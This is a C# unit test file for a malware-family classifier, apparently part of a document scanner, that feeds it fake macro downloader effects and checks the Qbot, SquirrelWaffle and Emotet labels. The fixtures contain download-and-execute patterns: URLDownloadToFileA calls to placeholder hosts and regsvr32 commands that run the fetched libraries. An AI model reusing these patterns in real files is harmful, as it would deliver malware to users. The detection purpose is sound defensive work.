using Postvakt.Documents.Families;
using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;

namespace Postvakt.Documents.Tests.Families;

public sealed class FamilyReaderTests
{
    private static InspectedFile With(string name, params Effect[] effects)
    {
        var file = new InspectedFile(null, name, 1, FileKind.Xlsb, "");
        foreach (var effect in effects) file.Does(effect);
        return file;
    }

    private static Effect Download(string url, string path, string call = "CALL") => new(EffectKind.Download, url, path, "A1", call);

    private static Effect Run(string command) => new(EffectKind.Execute, command, "", "A2", "EXEC");

    [Fact]
    public void ThreeLibrariesInANewFolder_ResembleQbot()
    {
        var file = With(
            "trend-1367022806.xls", Download("https://a.example/vYtqfHlq/g.html", @"C:\Datop\besta.ocx", "CALL(\"uRlMon\",\"URLDownloadToFileA\",\"JCCB\")"), Download("https://b.example/x1Y2z3W4/g.html", @"C:\Datop\bestb.ocx"),
            Download("https://c.example/AAbb11cc/g.html", @"C:\Datop\bestc.ocx"), Run(@"regsvr32 -s C:\Datop\besta.ocx"));
        var match = FamilyReader.Read(file)[0];
        Assert.Equal("qbot", match.Family);
        Assert.InRange(match.Confidence, 0.8, 1);
        Assert.Contains("T1218.010", match.Attack);
    }

    [Fact]
    public void TestFilesInDatop_ResembleSquirrelWaffle() =>
        Assert.Equal("squirrelwaffle", FamilyReader.Read(With("diagram-127.doc", Download("https://a.example/x", @"C:\Datop\test.test"), Run(@"regsvr32 C:\Datop\test.test")))[0].Family);

    [Fact]
    public void FourRelativeLibraries_ResembleEmotet()
    {
        var downloads = Enumerable.Range(1, 4).Select(n => Download($"https://h{n}.example/wp-content/aB{n}/", $@"..\sctm{n}.ocx", "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\")"));
        Assert.Equal("emotet", FamilyReader.Read(With("list.xls", [.. downloads, Run(@"C:\Windows\System32\regsvr32.exe /S ..\sctm1.ocx")]))[0].Family);
    }

    [Fact]
    public void AnyOtherDownload_IsUnknown() =>
        Assert.Equal("unknown-downloader", Assert.Single(FamilyReader.Read(With("a.xls", Download("https://a.example/setup", @"C:\Users\x\setup.exe"), Run("cmd /c setup.exe")))).Family);

    [Fact]
    public void NameAlone_ResemblesNobody() => Assert.Empty(FamilyReader.Read(With("charts-3657249237.zip")));
}
